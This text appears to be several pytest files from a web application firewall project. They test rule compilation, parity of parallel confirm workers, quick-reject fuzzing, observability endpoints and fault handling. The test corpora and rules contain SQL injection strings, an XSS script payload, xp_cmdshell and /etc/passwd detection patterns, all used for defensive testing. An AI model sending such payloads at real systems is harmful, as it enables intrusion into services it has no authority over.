         "--rules-dir", str(tree / "modsecurity.conf"),
         "--platform", "cpu", "--scan-impl", "pair",
         "--max-delay-us", "1000", "--no-warmup"],
        cwd=str(REPO), env=env, stderr=subprocess.PIPE, text=True)
    try:
        for _ in range(600):
            if Path(sock_path).exists():
                try:
                    s = socket.socket(socket.AF_UNIX)
                    s.connect(sock_path)
                    s.close()
                    break
                except OSError:
                    pass
            if proc.poll() is not None:
                raise RuntimeError("server died: %s" % proc.stderr.read())
            time.sleep(0.1)
        else:
            raise RuntimeError("server socket never appeared")

        from ingress_plus_tpu.serve.normalize import Request
        from ingress_plus_tpu.serve.protocol import (
            RESP_MAGIC, FrameReader, decode_response, encode_request)

        s = socket.socket(socket.AF_UNIX)
        s.connect(sock_path)
        s.sendall(encode_request(
            Request(uri="/q?a=1+union+select+2"), req_id=1))
        s.sendall(encode_request(
            Request(uri="/q", client_ip="203.0.113.7"), req_id=2))
        # 942160 was removed by the exclusion file: its keyword alone
        # must NOT fire
        s.sendall(encode_request(
            Request(uri="/q?a=xp_cmdshell"), req_id=3))
        s.sendall(encode_request(Request(uri="/benign"), req_id=4))
        reader = FrameReader(RESP_MAGIC)
        got = {}
        s.settimeout(120)
        while len(got) < 4:
            for f in reader.feed(s.recv(65536)):
                r = decode_response(f)
                got[r["req_id"]] = r
        s.close()
        assert got[1]["attack"] and 942100 in got[1]["rule_ids"]
        assert got[2]["attack"] and 910110 in got[2]["rule_ids"]
        assert not got[3]["attack"], got[3]   # excluded rule stays dead
        assert not got[4]["attack"]
    finally:
        proc.terminate()
        proc.wait(timeout=10)
