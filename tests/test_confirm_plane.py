"""Parallel confirm plane (models/confirm_plane.py, docs/CONFIRM_PLANE.md).

Covers the ISSUE 9 acceptance criteria: N confirm workers produce
byte-identical verdicts to the serial walk over a shuffled corpus
(runtime-ctl-exclusion requests, streams, and the oversized side lane
included), the mandatory-literal quick-reject and the per-cycle flood
memo are differentially fuzzed to never change a confirm outcome, the
memo's size bound holds under adversarial cardinality, and a wedged
confirm worker fails only its own request share open (the CI fault
matrix carries the full scenario; here the pool units).
"""

import random
import re
import string
import time

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.confirm import (
    ConfirmRule,
    apply_transforms,
    derive_quick_reject,
    transform_cached,
)
from ingress_plus_tpu.models import confirm as confirm_mod
from ingress_plus_tpu.models.confirm_plane import (
    ConfirmMemo,
    ConfirmPool,
    streams_digest,
)
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.batcher import Batcher
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.utils import faults
from ingress_plus_tpu.utils.faults import FaultPlan

RULES = """
SecRule ARGS|REQUEST_BODY "@rx (?i)union\\s+select" "id:942100,phase:2,block,t:urlDecodeUni,t:lowercase,severity:CRITICAL,tag:'attack-sqli'"
SecRule ARGS|REQUEST_BODY "@rx (?i)<script[^>]*>" "id:941100,phase:2,block,t:urlDecodeUni,t:htmlEntityDecode,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_URI|ARGS "@rx /etc/(?:passwd|shadow)" "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
SecRule ARGS "@pm sleep( benchmark( xp_cmdshell" "id:942150,phase:2,block,severity:ERROR,tag:'attack-sqli'"
SecRule REQUEST_URI "@beginsWith /internal/" \\
    "id:10001,phase:1,pass,nolog,ctl:ruleRemoveById=942100"
SecRule REQUEST_URI "@beginsWith /profile" \\
    "id:10002,phase:1,pass,nolog,ctl:ruleRemoveTargetById=942100;ARGS:bio"
SecRule REQUEST_URI "@streq /healthz" \\
    "id:10003,phase:1,pass,nolog,ctl:ruleEngine=Off"
"""


@pytest.fixture(scope="module")
def cr():
    return compile_ruleset(parse_seclang(RULES))


def _corpus(n=64, seed=17):
    """Shuffled mixed corpus: attacks, benign traffic, runtime-ctl
    requests (removed-rule, removed-target, engine-off paths), and
    near-duplicate flood segments that exercise the per-cycle memo."""
    rng = random.Random(seed)
    out = []
    for i in range(n):
        kind = i % 8
        if kind == 0:
            r = Request(uri="/p?q=1%27%20UNION%20SELECT%20x%20FROM%20t",
                        headers={}, body=b"", request_id="atk-sqli-%d" % i)
        elif kind == 1:
            r = Request(uri="/x?v=<script>alert(1)</script>", headers={},
                        body=b"", request_id="atk-xss-%d" % i)
        elif kind == 2:
            # runtime ctl: 942100 removed on /internal/ — the SQLi
            # payload must pass there and only there
            r = Request(uri="/internal/p?q=1 union select x",
                        headers={}, body=b"", request_id="ctl-rm-%d" % i)
        elif kind == 3:
            # runtime ctl: ARGS:bio excluded from 942100 on /profile
            r = Request(uri="/profile?bio=union select creds",
                        headers={}, body=b"", request_id="ctl-tgt-%d" % i)
        elif kind == 4:
            r = Request(uri="/healthz", headers={}, body=b"",
                        request_id="ctl-off-%d" % i)
        elif kind == 5:
            # flood shape: identical streams across many request ids —
            # the memo's second-occurrence gate engages on these
            r = Request(uri="/flood?q=1 union select pw from users",
                        headers={}, body=b"", request_id="flood-%d" % i)
        else:
            r = Request(uri="/index.html?page=%d" % i,
                        headers={"content-type":
                                 "application/x-www-form-urlencoded"},
                        body=b"user=a&pass=" + bytes(
                            rng.randrange(97, 123) for _ in
                            range(rng.randrange(4, 80))),
                        request_id="benign-%d" % i)
        out.append(r)
    rng.shuffle(out)
    return out


def _vt(v):
    return (v.attack, v.blocked, tuple(v.rule_ids), v.score,
            tuple(v.classes), v.fail_open, v.degraded,
            tuple((m["rule_id"], m["var"], m["value"])
                  for m in v.matches))


def _serve_all(batcher, requests, timeout=60):
    futs = [batcher.submit(r) for r in requests]
    return {r.request_id: f.result(timeout=timeout)
            for r, f in zip(requests, futs)}


def _mk(cr, workers, memo=4096, **kw):
    kw.setdefault("max_batch", 16)
    kw.setdefault("max_delay_s", 0.001)
    p = DetectionPipeline(cr, mode="block", confirm_workers=workers,
                          confirm_memo_entries=memo)
    return Batcher(p, **kw)


# ----------------------------------------------------------- parity

def test_nworker_verdict_parity_with_serial(cr):
    """The tentpole property: N confirm workers + quick-reject + memo
    produce byte-identical verdicts (matches included) to the serial
    pre-pool walk — over a shuffled corpus with runtime-ctl requests
    and an oversized side-lane request."""
    reqs = _corpus(64)
    big = (b"x=" + b"A" * (Batcher.OVERSIZE_THRESHOLD + 512)
           + b"&q=1 union select passwords")
    reqs.append(Request(uri="/upload", headers={}, body=big,
                        request_id="atk-oversized"))

    # serial reference: one worker, memo and quick-reject DISABLED —
    # the pre-PR confirm path, literal for literal
    b1 = _mk(cr, workers=1, memo=0)
    for c in b1.pipeline.confirms:
        c.qr_literals = None
        c._qr_rule_ok = False
    try:
        want = {rid: _vt(v) for rid, v in _serve_all(b1, reqs).items()}
    finally:
        b1.close()
    # the corpus genuinely exercises every lane of the fold
    assert any(w[0] for w in want.values())
    assert not all(w[0] for w in want.values())
    assert want["atk-oversized"][0]
    assert any(rid.startswith("ctl-rm") and not w[0]
               for rid, w in want.items())

    shuffled = list(reqs)
    random.Random(3).shuffle(shuffled)
    b3 = _mk(cr, workers=3)
    try:
        got = {rid: _vt(v) for rid, v in _serve_all(b3, shuffled).items()}
        assert not b3.pipeline.confirm_pool.inline
    finally:
        b3.close()
    assert got == want


def test_detect_parity_memo_and_quick_reject(cr):
    """Library-level differential: pipeline.detect with quick-reject +
    memo enabled vs both disabled, byte-identical verdicts over a
    corpus heavy in duplicate (flood) segments."""
    reqs = _corpus(96, seed=23)
    ref = DetectionPipeline(cr, mode="block", confirm_memo_entries=0)
    for c in ref.confirms:
        c.qr_literals = None
        c._qr_rule_ok = False
    want = [_vt(v) for v in ref.detect(reqs)]

    opt = DetectionPipeline(cr, mode="block", confirm_memo_entries=4096)
    got = [_vt(v) for v in opt.detect(reqs)]
    assert got == want
    # the flood duplicates actually drove the memo
    assert opt.stats.confirm_memo_hits > 0


# ------------------------------------------------- differential fuzz

def _rand_pattern(rng):
    """Random regex from a CRS-shaped grammar: literal keywords,
    alternations, classes, quantifiers — biased toward shapes that
    yield mandatory literals but including ones that must abstain."""
    words = ["select", "union", "script", "passwd", "../", "eval(",
             "<!--", "sleep", "0x", "etc"]
    parts = []
    for _ in range(rng.randrange(1, 4)):
        kind = rng.randrange(5)
        if kind == 0:
            parts.append(re.escape(rng.choice(words)))
        elif kind == 1:
            parts.append("(?:%s|%s)" % (re.escape(rng.choice(words)),
                                        re.escape(rng.choice(words))))
        elif kind == 2:
            parts.append("[a-z0-9]%s" % rng.choice(["*", "+", "?"]))
        elif kind == 3:
            parts.append("\\s%s" % rng.choice(["*", "+"]))
        else:
            parts.append(re.escape(rng.choice(string.punctuation)))
    return "".join(parts)


def _rand_text(rng, words):
    chunks = []
    for _ in range(rng.randrange(1, 6)):
        if rng.random() < 0.5:
            chunks.append(rng.choice(words))
        chunks.append("".join(rng.choice(
            string.ascii_letters + string.digits + " /<>%&=.-")
            for _ in range(rng.randrange(0, 12))))
    return "".join(chunks)


def test_quick_reject_literal_soundness_fuzz():
    """The load-bearing property of derive_quick_reject: for ANY text
    the pattern matches, at least one derived literal occurs in the
    lowercased text.  500 random patterns x 40 random texts — a
    counterexample means the quick-reject would veto a true match."""
    rng = random.Random(99)
    words = ["select", "union", "script", "passwd", "../", "eval(",
             "<!--", "sleep", "0x", "etc", "SELECT", "UniOn"]
    checked = 0
    for _ in range(500):
        pat = _rand_pattern(rng)
        fold = rng.random() < 0.5
        try:
            rx = re.compile(pat.encode(),
                            re.IGNORECASE if fold else 0)
        except re.error:
            continue
        lits = derive_quick_reject(pat, fold)
        if lits is None:
            continue   # abstained: no claim to verify
        for _ in range(40):
            text = _rand_text(rng, words).encode()
            if rx.search(text) is not None:
                low = text.lower()
                assert any(lit in low for lit in lits), \
                    (pat, fold, lits, text)
                checked += 1
    assert checked > 50   # the fuzz actually exercised the property


def test_quick_reject_never_changes_rule_outcome_fuzz():
    """Differential fuzz at the ConfirmRule level: matches_streams with
    the derived literals active vs stripped must agree on every
    (rule, streams) pair — including transform chains, negation being
    ineligible by construction (_qr_rule_ok)."""
    rng = random.Random(7)
    words = ["union select", "<script>", "/etc/passwd", "benign text",
             "UNION%20SELECT", "../..", "eval(x)"]
    pats = [("(?i)union\\s+select", ["lowercase"]),
            ("<script[^>]*>", ["urlDecodeUni"]),
            ("/etc/(?:passwd|shadow)", []),
            ("(?:eval|assert)\\(", ["urlDecodeUni", "lowercase"])]
    for pat, transforms in pats:
        spec = {"op": "rx", "arg": pat, "fold": True,
                "targets": ["args"], "transforms": transforms}
        on = ConfirmRule(spec)
        off = ConfirmRule(spec)
        off.qr_literals = None
        off._qr_rule_ok = False
        if on.qr_literals is None:
            continue
        for _ in range(300):
            streams = {"args": _rand_text(rng, words).encode()}
            assert on.matches_streams(streams, {}) == \
                off.matches_streams(streams, {}), (pat, streams)


def test_memo_differential_on_identical_streams(cr):
    """The memo's purity claim, directly: a flood of identical segments
    through one detect cycle yields per-request outcomes identical to
    the memo-free walk — confirmed rules, scores, AND detail points
    (the memoized path re-derives detail for every request)."""
    reqs = [Request(uri="/f?q=1 union select pw", headers={}, body=b"",
                    request_id="f-%d" % i) for i in range(24)]
    ref = DetectionPipeline(cr, mode="block", confirm_memo_entries=0)
    want = [_vt(v) for v in ref.detect(reqs)]
    assert all(w[0] for w in want)   # the flood payload really hits
    memo = DetectionPipeline(cr, mode="block", confirm_memo_entries=256)
    got = [_vt(v) for v in memo.detect(reqs)]
    assert got == want
    # N identical requests: 2 walks (see-gate + first memoized), the
    # rest served from the memo
    assert memo.stats.confirm_memo_hits > 0


# ----------------------------------------------------- memo mechanics

def test_memo_eviction_bound():
    """The memo refuses inserts at capacity instead of evicting — high-
    cardinality traffic cannot grow it past cap, and suppressed inserts
    are counted (the bound is observable, never silent)."""
    m = ConfirmMemo(cap=8)
    for i in range(50):
        m.put((i, b"d%d" % i), (False, ()))
    assert len(m) == 8
    assert m.misses == 8
    assert m.suppressed == 42
    # the seen-set honors the same cap
    for i in range(50):
        m.see(b"digest-%d" % i)
    assert len(m._seen) <= 8
    # over-cap digests still answer consistently (False = not seen)
    assert m.see(b"digest-49") is False


def test_streams_digest_framing():
    """Key/value framing is unambiguous: moving a byte across the
    key/value boundary or reordering keys must not collide."""
    a = streams_digest({"ab": b"c", "x": b"y"})
    b = streams_digest({"a": b"bc", "x": b"y"})
    c = streams_digest({"x": b"y", "ab": b"c"})
    assert a != b
    assert a == c   # dict order is irrelevant, key order is canonical


def test_transform_memo_parity_and_bound():
    """The cross-request transform memo returns exactly
    apply_transforms for every (chain, text), stays bounded (clears at
    cap), and never caches long texts."""
    rng = random.Random(5)
    chains = [["lowercase"], ["urlDecodeUni", "lowercase"],
              ["htmlEntityDecode"], []]
    for _ in range(400):
        tf = rng.choice(chains)
        text = bytes(rng.randrange(32, 127)
                     for _ in range(rng.randrange(0, 64)))
        assert transform_cached(tuple(tf), tf, text) == \
            apply_transforms(text, tf)
    long = b"A%41" * 300   # > _TF_MEMO_MAXLEN
    assert transform_cached(("urlDecodeUni",), ["urlDecodeUni"],
                            long) == apply_transforms(
                                long, ["urlDecodeUni"])
    assert (("urlDecodeUni",), long) not in confirm_mod._TF_MEMO
    assert len(confirm_mod._TF_MEMO) <= confirm_mod._TF_MEMO_CAP


# ------------------------------------------------------ pool / faults

def test_pool_inline_vs_workers_lifecycle():
    pool = ConfirmPool(n_workers=1)
    assert pool.inline
    assert pool.snapshot()["workers"] == 1
    pool.close()   # no threads to close

    pool = ConfirmPool(n_workers=3, hang_budget_s=1.0)
    try:
        assert not pool.inline
        got = [pool.submit(i, lambda i=i: i * 10).wait(5.0)
               for i in range(3)]
        assert got == [0, 10, 20]
        pool.replace(1)
        assert pool.workers_replaced == 1
        assert pool.submit(1, lambda: "fresh").wait(5.0) == "fresh"
    finally:
        pool.close()


def test_fault_plan_confirm_worker_targeting():
    """worker= rules fire only on the targeted confirm worker's thread
    and are invisible (neither count nor consume) elsewhere — the lane-
    targeting contract, keyed on the confirm plane's thread-local."""
    plan = FaultPlan.from_spec("slow_confirm:worker=1,times=2")
    try:
        faults.set_current_confirm_worker(0)
        assert plan.fire("slow_confirm") is None
        faults.set_current_confirm_worker(1)
        assert plan.fire("slow_confirm") is not None
        assert plan.fire("slow_confirm") is not None
        assert plan.fire("slow_confirm") is None   # times exhausted
        snap = plan.snapshot()
        assert snap["rules"][0]["worker"] == 1
        assert snap["rules"][0]["fired"] == 2
    finally:
        faults.set_current_confirm_worker(None)


def test_wedged_worker_fails_only_its_share_open(cr):
    """A slow_confirm wedge pinned to worker 1 of 2: its share fails
    open within the pool hang budget, sibling verdicts stay exact, the
    worker is replaced, and the next batch is clean — the library-level
    twin of the CI fault-matrix scenario."""
    p = DetectionPipeline(cr, mode="block", confirm_workers=2,
                          confirm_hang_budget_s=0.5)
    reqs = _corpus(16, seed=31)
    want = {r.request_id: _vt(v)
            for r, v in zip(reqs, p.detect(reqs))}
    faults.install(FaultPlan.from_spec(
        "slow_confirm:worker=1,times=1,delay_s=8.0"))
    try:
        t0 = time.perf_counter()
        got = {r.request_id: v for r, v in zip(reqs, p.detect(reqs))}
        assert time.perf_counter() - t0 < 5.0   # bounded by the budget
    finally:
        faults.install(None)
    open_share = {rid for rid, v in got.items() if v.fail_open}
    assert open_share and len(open_share) < len(reqs)
    for rid, v in got.items():
        if rid not in open_share:
            assert _vt(v) == want[rid]   # siblings' verdicts exact
    assert p.stats.confirm_hangs == 1
    assert p.confirm_pool.workers_replaced == 1
    # recovery: the replaced worker serves the next batch clean
    got2 = {r.request_id: _vt(v) for r, v in zip(reqs, p.detect(reqs))}
    assert got2 == want
    p.confirm_pool.close()


def test_confirm_workers_cli_parsing():
    from ingress_plus_tpu.serve.server import _parse_confirm_workers

    assert _parse_confirm_workers("auto") == 0
    assert _parse_confirm_workers("4") == 4
    with pytest.raises(SystemExit):
        _parse_confirm_workers("0")
    with pytest.raises(SystemExit):
        _parse_confirm_workers("-2")
