"""Stage-level latency attribution end to end (ISSUE 1): real serve
loop subprocess, real frames over a real socket, then the three
observability surfaces — /metrics histograms, /traces/request?id=, and
/debug/slow — must agree on the same request's stage timings, and the
`dbg latency` CLI must parse the live endpoints."""

import json
import os
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
PORT = 19931

TINY_RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("obs")
    rules_dir = tmp / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(TINY_RULES)
    sock = str(tmp / "ipt.sock")
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    proc = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", sock, "--http-port", str(PORT),
         "--rules-dir", str(rules_dir), "--platform", "cpu",
         "--max-delay-us", "1000", "--no-warmup"],
        cwd=str(REPO), env=env, stderr=subprocess.PIPE, text=True)
    for _ in range(600):
        if Path(sock).exists():
            try:
                s = socket.socket(socket.AF_UNIX)
                s.connect(sock)
                s.close()
                break
            except OSError:
                pass
        if proc.poll() is not None:
            raise RuntimeError("server died: %s" % proc.stderr.read())
        time.sleep(0.1)
    else:
        proc.kill()
        raise RuntimeError("server socket never appeared")
    yield sock
    proc.terminate()
    proc.wait(timeout=10)


def _get(path):
    return urllib.request.urlopen(
        "http://127.0.0.1:%d%s" % (PORT, path), timeout=10).read()


def _drive(sock_path, reqs):
    """Send requests over the wire; return req_id → decoded verdict."""
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_request)

    s = socket.socket(socket.AF_UNIX)
    s.connect(sock_path)
    s.settimeout(120)
    for req, rid in reqs:
        s.sendall(encode_request(req, req_id=rid))
    reader, got = FrameReader(RESP_MAGIC), {}
    while len(got) < len(reqs):
        for f in reader.feed(s.recv(65536)):
            r = decode_response(f)
            got[r["req_id"]] = r
    s.close()
    return got


def test_surfaces_agree_on_stage_timings(server):
    from ingress_plus_tpu.serve.normalize import Request

    reqs = [(Request(uri="/item/%d?q=benign" % i,
                     headers={"Host": "shop.example.com"},
                     request_id=str(4000 + i)), 4000 + i)
            for i in range(6)]
    reqs.append((Request(uri="/q?a=1+union+select+2",
                         request_id="4100"), 4100))
    got = _drive(server, reqs)
    assert got[4100]["attack"]

    # --- /metrics: Prometheus stage histograms with real observations
    metrics = _get("/metrics").decode()
    for stage in ("queue", "prep", "scan", "confirm", "batch", "e2e"):
        assert 'ipt_stage_us_bucket{stage="%s"' % stage in metrics, stage
    assert "ipt_batch_size_bucket" in metrics
    from ingress_plus_tpu.utils.trace import stage_breakdown_from_metrics
    sb = stage_breakdown_from_metrics(metrics)
    assert sb is not None
    assert sb["e2e"]["count"] >= len(reqs)
    assert sb["queue"]["count"] >= len(reqs)
    assert sb["e2e"]["p99_us"] > 0

    # --- /traces/request?id=: the wire req_id resolves to its batch
    tr = json.loads(_get("/traces/request?id=4100"))
    assert tr["found"] and tr["batch"] is not None
    assert "4100" in tr["batch"]["request_ids"]
    stages = tr["stages"]
    assert stages["batch_us"] > 0
    assert stages["batch_us"] >= stages["scan_us"] + stages["confirm_us"]

    # --- /debug/slow: the same request's exemplar, with matching spans
    slow = json.loads(_get("/debug/slow"))["slowest"]
    assert slow, "slow ring empty after traffic"
    ex = {e["request_id"]: e for e in slow}.get("4100")
    assert ex is not None, "attack request not retained in slow ring"
    # the exemplar's batch breakdown IS the batch's trace record — the
    # three surfaces describe the same dispatch cycle
    for k in ("prep_us", "scan_us", "confirm_us", "batch_us"):
        assert ex["batch"][k] == stages[k], (k, ex["batch"], stages)
    assert ex["e2e_us"] >= ex["queue_us"]
    assert ex["e2e_us"] >= stages["scan_us"]
    assert ex["rule_ids"] == [942100]
    assert ex["input"]["uri_len"] == len("/q?a=1+union+select+2")
    # ...and the e2e histogram's +Inf-cumulative covers the exemplar
    assert sb["e2e"]["count"] >= 1

    # unknown id: explicit not-found, never a 500
    missing = json.loads(_get("/traces/request?id=999999"))
    assert not missing["found"]


def test_oversized_body_lands_in_slow_ring(server):
    """The oversized side lane (likeliest slowest requests) must feed
    the e2e histogram and the slow ring too — not vanish from the
    attribution layer."""
    from ingress_plus_tpu.serve.normalize import Request

    body = b"P" * (64 << 10) + b" 1' union select password from users --"
    got = _drive(server, [(Request(method="POST", uri="/upload",
                                   body=body, request_id="4200"), 4200)])
    assert got[4200]["attack"]
    ex = None
    for _ in range(40):     # side lane resolves asynchronously
        slow = json.loads(_get("/debug/slow"))["slowest"]
        ex = {e["request_id"]: e for e in slow}.get("4200")
        if ex is not None:
            break
        time.sleep(0.25)
    assert ex is not None, "oversized request missing from slow ring"
    assert ex.get("oversized") is True
    assert ex["input"]["body_len"] == len(body)
    assert ex["rule_ids"] == [942100]
    # its id resolves via the exemplar, NOT a batch record — the side
    # lane's work must not be attributed to a batch's stage spans
    tr = json.loads(_get("/traces/request?id=4200"))
    assert tr["found"] and tr["batch"] is None
    assert tr["exemplar"]["oversized"] is True


def test_traces_slowest_carries_stage_breakdown(server):
    body = json.loads(_get("/traces?slowest=5"))["traces"]
    assert body
    assert "stages" in body[0] and "prep_us" in body[0]["stages"]


def test_rules_stats_and_health_after_traffic(server):
    """ISSUE 3: the detection-plane telemetry surfaces appear on the
    live server after traffic — /rules/stats carries per-rule
    candidate/confirm accounting, /rules/health the dead/never-hit
    view, /rules/drift answers (no swap yet), and /metrics gains the
    family series + device-efficiency gauges."""
    from ingress_plus_tpu.serve.normalize import Request

    got = _drive(server, [(Request(uri="/q?a=9+union+select+9",
                                   request_id="4300"), 4300)])
    assert got[4300]["attack"]

    stats = json.loads(_get("/rules/stats"))
    assert stats["requests"] >= 1
    rows = {r["rule_id"]: r for r in stats["rules"]}
    assert rows[942100]["candidates"] >= 1
    assert rows[942100]["confirmed"] >= 1
    assert stats["efficiency"]["dispatch_fill"] is not None
    assert stats["device"]["n_rules"] == len(rows)

    health = json.loads(_get("/rules/health"))
    assert health["runtime_dead"] == []        # tiny pack is healthy
    assert health["requests"] >= 1

    drift = json.loads(_get("/rules/drift"))
    assert "note" in drift                     # no hot swap happened

    metrics = _get("/metrics").decode()
    assert 'ipt_rule_family_hits_total{' in metrics
    assert 'family="942"' in metrics
    assert "ipt_pad_waste_ratio" in metrics
    assert "ipt_dispatch_fill" in metrics
    assert "ipt_engine_recompiles_total" in metrics
    # per-generation series carry the version label (satellite)
    assert 'ipt_rules_runtime_dead{version="' in metrics
    assert 'ipt_confirm_errors_total{version="' in metrics


def test_dbg_rules_renders_live_endpoints(server, capsys):
    from ingress_plus_tpu.control import dbg

    rc = dbg.main(["rules", "--server", "127.0.0.1:%d" % PORT])
    assert rc == 0
    out = capsys.readouterr().out
    assert "942100" in out
    assert "runtime-dead rules (0)" in out

    rc = dbg.main(["drift", "--server", "127.0.0.1:%d" % PORT])
    assert rc == 0
    out = capsys.readouterr().out
    assert "no ruleset swap since startup" in out


def test_dbg_latency_parses_live_endpoints(server, capsys):
    """ISSUE 1 satellite: `dbg latency` drives the real endpoints and
    renders a parseable stage table."""
    from ingress_plus_tpu.control import dbg

    rc = dbg.main(["latency", "--server", "127.0.0.1:%d" % PORT])
    assert rc == 0
    out = capsys.readouterr().out
    lines = out.splitlines()
    header = next(l for l in lines if l.startswith("stage"))
    cols = header.split()
    assert cols == ["stage", "count", "p50_us", "p90_us", "p99_us"]
    rows = {}
    for l in lines[lines.index(header) + 1:]:
        if not l.strip():
            break
        parts = l.split()
        rows[parts[0]] = [float(x) for x in parts[1:]]
    for stage in ("queue", "prep", "scan", "confirm", "e2e"):
        assert stage in rows, out
        assert rows[stage][0] > 0          # count
    assert "slowest requests" in out
