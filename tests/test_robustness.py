"""Fail-safe serve plane (docs/ROBUSTNESS.md): bounded admission +
deadline shedding, the brownout degradation ladder, the dispatch
watchdog + circuit breaker + CPU fallback, the deterministic
fault-injection harness, exporter backoff/spool bounding, and the
websocket sticky-fail-open path.

The invariant under test everywhere: every admitted request resolves to
exactly one verdict, and no fault becomes an unhandled exception or a
block.
"""

import asyncio
import json
import socket
import threading
import time
import urllib.request
from concurrent.futures import Future

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.pipeline import (
    DetectionPipeline,
    LoadController,
)
from ingress_plus_tpu.serve.batcher import Batcher, CircuitBreaker
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.utils import faults
from ingress_plus_tpu.utils.faults import (
    ATTACK_URI,
    FaultError,
    FaultPlan,
    run_fault_matrix,
)

RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_URI|ARGS "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
"""


@pytest.fixture(scope="module")
def cr():
    return compile_ruleset(parse_seclang(RULES))


@pytest.fixture(autouse=True)
def _no_leftover_plan():
    """Every test starts and ends without an active fault plan."""
    faults.clear()
    yield
    faults.clear()


def _mk_batcher(cr, **kw):
    kw.setdefault("max_batch", 16)
    kw.setdefault("max_delay_s", 0.001)
    b = Batcher(DetectionPipeline(cr, mode="block"), **kw)
    # pre-compile the serve shapes so hang budgets in tests never race
    # a first-dispatch XLA compile
    warm = [Request(uri="/w%d" % i, request_id="w%d" % i)
            for i in range(kw["max_batch"])]
    for size in (1, 4, kw["max_batch"]):
        b.pipeline.detect(warm[:size])
    return b


# ------------------------------------------------------------ FaultPlan

def test_faultplan_parse_schedule_and_determinism():
    plan = FaultPlan.from_spec(
        "dispatch_raise:after=2,times=2;slow_confirm:delay_s=0.5")
    # after=2: arrivals 0,1 skip; 2,3 fire; times=2: 4+ exhausted
    fires = [plan.fire("dispatch_raise") is not None for _ in range(6)]
    assert fires == [False, False, True, True, False, False]
    assert plan.fire("export_5xx") is None      # site not in the plan
    r = plan.rules["slow_confirm"]
    assert r.delay_s == 0.5 and r.times is None and r.after == 0
    # probabilistic plans replay identically under the same seed
    a = FaultPlan.from_spec("export_5xx:prob=0.5", seed=7)
    b = FaultPlan.from_spec("export_5xx:prob=0.5", seed=7)
    seq_a = [a.fire("export_5xx") is not None for _ in range(32)]
    seq_b = [b.fire("export_5xx") is not None for _ in range(32)]
    assert seq_a == seq_b and True in seq_a and False in seq_a
    snap = plan.snapshot()
    assert {r["site"] for r in snap["rules"]} == {"dispatch_raise",
                                                  "slow_confirm"}


def test_faultplan_rejects_bad_specs():
    with pytest.raises(ValueError):
        FaultPlan.from_spec("not_a_site:times=1")
    with pytest.raises(ValueError):
        FaultPlan.from_spec("dispatch_hang:bogus_arg=1")
    with pytest.raises(ValueError):
        FaultPlan.from_spec("")


def test_faultplan_env_install():
    env = {"IPT_FAULTS": "swap_fail:times=1", "IPT_FAULTS_SEED": "3"}
    plan = faults.install_from_env(env)
    assert plan is not None and faults.active() is plan
    assert plan.seed == 3
    with pytest.raises(FaultError):
        faults.raise_if("swap_fail")
    assert not faults.fire("swap_fail")       # times=1 exhausted
    faults.clear()
    assert faults.install_from_env({}) is None


# ------------------------------------------------------- LoadController

def test_load_controller_hysteresis():
    lc = LoadController(up_us=(100.0, 200.0), down_factor=0.5,
                        dwell_s=2.0, alpha=1.0,   # alpha=1: no smoothing
                        up_confirm_s=0.5)
    t = 1000.0
    assert lc.observe(50, now=t) == 0
    # a single over-threshold spike does NOT step (confirm window)...
    assert lc.observe(150, now=t + 0.01) == 0
    # ...a recovered signal resets the window...
    assert lc.observe(50, now=t + 0.2) == 0
    assert lc.observe(150, now=t + 0.3) == 0
    assert lc.observe(150, now=t + 0.7) == 0   # window restarted at 0.3
    # ...sustained pressure steps up, one rung per served window
    assert lc.observe(150, now=t + 0.9) == 1
    assert lc.observe(250, now=t + 1.0) == 1
    assert lc.observe(250, now=t + 1.5) == 2
    # signal drops below down threshold, but dwell not served: hold
    assert lc.observe(10, now=t + 2.0) == 2
    # dwell served: step down ONE rung per observation
    assert lc.observe(10, now=t + 4.0) == 1
    assert lc.observe(10, now=t + 5.0) == 1   # dwell restarts per change
    assert lc.observe(10, now=t + 7.0) == 0
    assert lc.steps_up == 2 and lc.steps_down == 2
    # a borderline signal (between down and up thresholds) never flaps
    lc2 = LoadController(up_us=(100.0, 200.0), down_factor=0.5,
                         dwell_s=0.0, alpha=1.0, up_confirm_s=0.0)
    lc2.observe(150, now=t)
    assert lc2.level == 1
    for i in range(10):
        lc2.observe(80, now=t + i)   # above 0.5*100, below 200
    assert lc2.level == 1
    # single-spike clamp: observations cap at obs_cap, so one huge
    # outlier (post-compile backlog) cannot catapult the signal
    lc3 = LoadController(up_us=(100.0, 200.0), alpha=0.2)
    lc3.observe(10_000_000, now=t)
    assert lc3.ewma.get() <= lc3.obs_cap_us
    lc3.observe(10_000_000, now=t + 0.1)
    assert lc3.ewma.get() <= lc3.obs_cap_us


def test_load_controller_deadline_derivation():
    lc = LoadController()
    lc.configure_deadline(0.25)
    assert lc.up_us == (62_500.0, 150_000.0)
    assert lc.snapshot()["mode"] == "full"


# ------------------------------------------------------- CircuitBreaker

def test_circuit_breaker_transitions():
    brk = CircuitBreaker(failure_threshold=2, cooldown_s=0.15)
    assert brk.route() == "device"
    brk.record_failure()
    assert brk.state == "closed"            # below threshold
    brk.record_failure()
